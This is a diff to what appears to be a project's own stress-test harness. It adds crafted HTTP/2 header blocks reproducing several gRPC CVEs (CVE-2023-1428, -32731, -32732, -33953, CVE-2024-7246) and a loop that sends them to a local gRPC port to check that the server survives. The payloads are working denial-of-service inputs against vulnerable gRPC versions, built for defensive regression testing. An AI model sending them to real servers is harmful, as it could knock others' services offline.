@@ -108,6 +108,51 @@ def http2_garbage(arena):
     arena.note(f"{sum(each or 0 for each in done):,} frames")
 
 
+def invalid_header_blocks():
+    """Header blocks that gRPC 1.5x mistreats, one connection each, with the advisory."""
+    call = b"".join(http2.literal(*pair) for pair in (
+        (":method", "POST"), (":path", messages.LIST_WORLDS), (":authority", "localhost"),
+        ("content-type", "application/grpc")))
+    good = http2.literal(":scheme", "http") + http2.literal("te", "trailers")
+    # CVE-2023-1428: an invalid header, then more than 8 KiB.
+    for size in (8000, 9000, 15000):
+        large = http2.literal("x-large", "y" * size)
+        yield call + http2.literal(":scheme", "http") + http2.literal("te", "x") + large
+        yield call + http2.literal(":scheme", "x") + http2.literal("te", "trailers") + large
+        yield call + good + http2.literal("grpclb_client_stats", "x") + large
+        # CVE-2023-32731: an entry of the dynamic table after the limit is exceeded.
+        yield call + good + large + b"\x40\x03x-a\x01b"
+    yield call + good + http2.literal("x-bad-bin", "!!!!")  # CVE-2023-32732: not base64
+    yield call + good + b"\x40\x09x-bad-bin\x04!!!!" + b"\xbe" * 10  # CVE-2024-7246: indexed, and then referenced
+    # CVE-2023-33953: a length with padding.
+    yield call + good + b"\x00\x7f" + b"\x80" * 14000 + b"\x00"
+
+
+def _invalid_headers(number, ports, seconds):
+    until, done = time.monotonic() + seconds, 0
+    while time.monotonic() < until:
+        for block in invalid_header_blocks():
+            try:
+                sock = connect(ports.grpc, timeout=1.0)
+                sock.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
+                             + http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, block))
+                sock.recv(65536)
+                sock.close()
+                done += 1
+            except OSError:
+                time.sleep(0.01)
+    return done
+
+
+@attack("invalid-headers", seconds=8)
+def invalid_headers(arena):
+    """Header blocks for which advisories exist against gRPC 1.51 (docs/design/security_model.md)."""
+    done = arena.fork(2, _invalid_headers, arena.ports, arena.seconds)
+    total = sum(each or 0 for each in done)
+    arena.note(f"{total:,} header blocks")
+    arena.check(total >= 15, "the server answered each kind of header block")
+
+
 def websocket_abuses(rng):
     frame = websocket.frame
     yield frame(messages.hello("target"), masked=False)
